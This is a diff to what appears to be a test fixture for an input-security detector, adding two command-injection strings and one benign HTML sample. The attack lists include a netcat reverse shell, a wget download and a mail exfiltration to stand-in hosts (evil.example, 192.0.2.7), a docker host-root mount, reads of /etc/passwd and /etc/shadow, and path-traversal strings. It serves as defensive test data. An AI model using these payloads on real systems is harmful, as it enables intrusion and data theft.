@@ -64,6 +64,7 @@ ATTACKS = {
         "example.com | nc 192.0.2.7 4444 -e /bin/sh", "x;${IFS}cat${IFS}/etc/passwd", "() { :;}; echo vulnerable",
         "__import__('os').system('id')", "name\nwget http://evil.example/y -O /tmp/y", "x & net user eve Pa55 /add",
         "--upload-pack=touch /tmp/x", "-oProxyCommand=calc", "photo.png & calc.exe", "photo.png|id>/tmp/x",
+        "x; docker run -v /:/host alpine", "x | mail -s y eve@evil.example < /etc/hostname",
     ],
     "PATH_TRAVERSAL": [
         "../../etc/passwd", "..\\..\\windows\\win.ini", "/var/www/../../etc/shadow", "/proc/self/environ",
@@ -102,6 +103,7 @@ HARMLESS = [
     "SELECT id, name FROM customers WHERE city = 'Paris' ORDER BY name LIMIT 10", "a=1&b=2&c=3",
     '<?xml version="1.0"?><root><item id="1"/></root>',
     "<!DOCTYPE html><html><head><title>T</title></head><body></body></html>",
+    "<html><body><h1>Report</h1><p>All good.</p></body></html>",
     "```bash\nsudo apt-get update && sudo apt-get install -y nginx\n```",
 ]  # fmt: skip
 
